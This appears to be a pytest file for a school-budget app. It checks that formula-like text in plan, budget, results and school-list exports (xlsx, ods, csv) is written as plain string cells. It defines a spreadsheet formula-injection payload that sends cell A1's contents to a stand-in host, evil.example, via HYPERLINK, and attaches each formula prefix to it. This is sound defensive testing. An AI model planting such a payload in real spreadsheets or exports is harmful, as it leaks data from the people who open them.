"""A clerk's text never becomes a live formula in a document: every text cell is text.

Budget-line explanations and 學校全銜 carry each prefix a spreadsheet reads as a formula;
the plan, budget, results and schools workbooks are read back cell by cell and as raw XML.
"""

import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from demo.generate import generate
from forms.cells import FORMULA_START, csv_safe
from forms.render import render
from model.db import make_engine
from model.migrate import upgrade
from model.tables import BudgetLine, County, Plan, School
from web.export import Table, csv_bytes, xlsx_bytes

COUNTY = "新竹縣"
YEAR = 113
ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [prefix + ATTACK for prefix in FORMULA_START]
KINDS = ["plan", "budget", "results", "schools"]


@pytest.fixture(scope="module")
def engine(tmp_path_factory):
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'demo.db'}")
    upgrade(engine)
    with Session(engine) as session:
        generate(session, year=YEAR, county_name=COUNTY, story=False)
        county = session.exec(select(County).where(County.name == COUNTY)).one()
        plan = session.exec(select(Plan).where(Plan.county_id == county.id)).one()
        lines = session.exec(select(BudgetLine).where(BudgetLine.plan_id == plan.id)).all()
        for n, line in enumerate(lines):
            line.explanation = PAYLOADS[n % len(PAYLOADS)]
        schools = session.exec(select(School).where(School.county_id == county.id)).all()
        for n, school in enumerate(schools):
            school.name = PAYLOADS[n % len(PAYLOADS)][:60]
        session.commit()
    yield engine
    engine.dispose()


def _render(engine, kind: str, fmt: str) -> bytes:
    with Session(engine) as session:
        return render(session, kind, COUNTY, YEAR, fmt, draft=True)


def _members(data: bytes, pattern: str) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(data)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if re.fullmatch(pattern, n)}


@pytest.mark.parametrize("kind", KINDS)
def test_xlsx_writes_formula_like_text_as_string_cells(engine, kind):
    data = _render(engine, kind, "xlsx")
    book = load_workbook(BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and ATTACK in cell.value:
                    assert cell.data_type == "s", (kind, sheet.title, cell.coordinate)
                    found.add(cell.value[0])
    # XML reads a CR back as a line feed; it was still written as text.
    assert found == {"\n" if p == "\r" else p for p in FORMULA_START}, kind
    for name, xml in _members(data, r"xl/worksheets/.*\.xml").items():
        assert "<f>" not in xml and "<f " not in xml, (kind, name)


@pytest.mark.parametrize("kind", KINDS)
def test_ods_writes_formula_like_text_as_string_cells(engine, kind):
    data = _render(engine, kind, "ods")
    xml = _members(data, "content.xml")["content.xml"]
    assert "table:formula" not in xml
    # Each payload's cell is typed as a string (the text is its paragraph).
    cells = re.findall(r"<table:table-cell([^>]*)><text:p>([^<]*)</text:p>", xml)
    typed = {text[0] for attrs, text in cells if "HYPERLINK(" in text}
    assert {p for p in FORMULA_START if p not in "\t\r"} <= typed, kind
    for attrs, text in cells:
        if "HYPERLINK(" in text:
            assert 'office:value-type="string"' in attrs, (kind, text)


def test_list_exports_keep_formula_like_text_as_text():
    table = Table("學校", ["學校全銜"], [[p] for p in PAYLOADS])
    sheet = load_workbook(BytesIO(xlsx_bytes(table))).active
    assert [c.data_type for (c,) in sheet.iter_rows(min_row=2)] == ["s"] * len(PAYLOADS)
    lines = csv_bytes(table).decode("utf-8-sig").split("\r\n")
    assert all(line.lstrip('"').startswith("'") for line in lines[1:-1])
    assert csv_safe("臺北市立建國高級中學") == "臺北市立建國高級中學"
